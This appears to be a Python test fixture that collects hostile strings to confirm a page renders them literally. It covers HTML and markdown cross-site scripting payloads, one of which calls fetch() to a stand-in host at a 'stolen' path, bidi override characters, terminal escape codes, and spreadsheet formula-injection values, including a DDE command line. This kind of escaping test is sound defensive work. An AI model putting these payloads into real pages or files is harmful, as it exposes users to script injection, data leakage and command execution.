"""Texts that try to become something else on a page; each must be shown as it is."""

from __future__ import annotations

MARK = "__hostile"
ELSEWHERE = "http://192.0.2.77/stolen"

_HTML = (
    f"<img src=x onerror=\"window.{MARK}=1;fetch('{ELSEWHERE}')\">"
    f"<script>window.{MARK}=2</script><iframe src={ELSEWHERE}></iframe>"
    f'<a href="javascript:window.{MARK}=3">press me</a><style>body{{display:none}}</style>'
    f"</textarea></pre></div><svg onload=window.{MARK}=4>"
)
_MARKDOWN = (
    f"![picture]({ELSEWHERE}.png) [link](javascript:window.{MARK}=5) **bold** `code` # head\n"
    "# Heading\n- list\n> quote\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    "$x^2$ $$y$$ :red[red] :material/home: :tada: <https://example.org> ---\n~~~\n```\nfence\n"
)
_RIGHT_TO_LEFT = (
    "שלום עולם 123 מה התשובה?\nالإجابة الصحيحة هي ٤٢\n"
    "left \u202ereversed\u202c and \u2066isolated\u2069 and \u200fmarked\u200e end"
)
# NUL and the C1 range cannot stand in every store; what is refused at import is another check.
_CONTROLS = (
    "bell\x07 back\x08 escape\x1b[31mred\x1b[0m unit\x1f del\x7f next\x85line\u2028para\u2029end"
)
_WIDE = (
    "family 👨‍👩‍👧‍👦 flag 🇩🇪 accent e\u0301 zero\u200bwidth tab\tend  two  spaces\n\n\nthree lines"
)
_FORMULA = '=cmd|\'/C calc\'!A0\n+1+1\n-1+1\n@SUM(1)\n\t=1\n=HYPERLINK("http://192.0.2.77","x")'


def long_text(size: int) -> str:
    """Return exactly `size` bytes of ASCII in lines, the end marked, so that a cut is seen."""
    line = "All work and no play makes a long item; <b>not bold</b> and `not code`.\n"
    body = line * (size // len(line) + 1)
    end = "\nthe very end of the item"
    return body[: size - len(end)] + end


HOSTILE_TEXTS: dict[str, str] = {
    "html": _HTML,
    "markdown": _MARKDOWN,
    "right_to_left": _RIGHT_TO_LEFT,
    "controls": _CONTROLS,
    "wide": _WIDE,
    "formula": _FORMULA,
    "kb50": long_text(50_000),
    "kb500": long_text(500_000),
}
"""By name: what stands in the item's output."""
